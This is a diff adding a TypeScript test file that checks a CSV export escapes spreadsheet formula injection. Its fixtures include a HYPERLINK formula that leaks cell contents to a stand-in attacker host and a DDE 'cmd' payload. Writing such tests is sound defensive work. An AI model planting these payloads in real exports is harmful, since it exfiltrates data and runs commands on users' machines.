@@ -1,0 +1,42 @@
+/** The knowledge-base CSV export: what a spreadsheet opening it reads. */
+import { describe, it, expect } from "vitest";
+import { csvCells, validFile } from "../helpers/records";
+import { validateRecordFile, recordsCsv } from "../../lib/records";
+import { CSV_COLUMNS, SPREADSHEET_SAFE } from "../../lib/records/csv";
+import { stringify } from "csv-stringify/sync";
+
+async function exportedCsv(file: ReturnType<typeof validFile>): Promise<Record<string, string>[]> {
+  let text = "";
+  for await (const chunk of recordsCsv(validateRecordFile(file).papers)) text += chunk;
+  const [header, ...rows] = csvCells(text);
+  expect(header).toEqual([...CSV_COLUMNS]);
+  return rows.map((cells) => Object.fromEntries(header!.map((column, i) => [column, cells[i]!])));
+}
+
+describe("the CSV export", () => {
+  it("neutralises text a spreadsheet would run as a formula, with a leading single quote", async () => {
+    const file = validFile();
+    const material = file.papers[0]!.materials![0]!;
+    material.name = '=HYPERLINK("https://evil.example/?leak="&A1,"FeS₂")';
+    Object.assign(material.measurements![0]!, { quote: "+SUM(1,2)", location: "@Fig. 3", subject: "-2+3+cmd|' /C calc'!A0", note: "\t=1+1" });
+    const [row] = await exportedCsv(file);
+    expect(row!.material_name).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"FeS₂")`);
+    expect(row!.quote).toBe("'+SUM(1,2)");
+    expect(row!.location).toBe("'@Fig. 3");
+    expect(row!.subject).toBe("'-2+3+cmd|' /C calc'!A0");
+    expect(row!.note).toBe("'=1+1"); // the record format trims the tab away
+    // Text that merely mentions a formula character later is left as written.
+    expect(row!.unit).toBe("mAh g^{−1}");
+  });
+
+  it("leaves numbers as numbers, negative ones included", async () => {
+    const [row] = await exportedCsv(validFile());
+    expect(row!.temperature_degC).toBe("-35");
+    expect(row!.value).toBe("255.2");
+    expect(row!.canonical_value).toBe("255.2");
+  });
+
+  it("quotes a cell that starts with a tab or a carriage return", () => {
+    expect(csvCells(stringify([["\t=1+1", "\r=1+1", -1.5, "-"]], SPREADSHEET_SAFE))).toEqual([["'\t=1+1", "'\r=1+1", "-1.5", "'-"]]);
+  });
+});
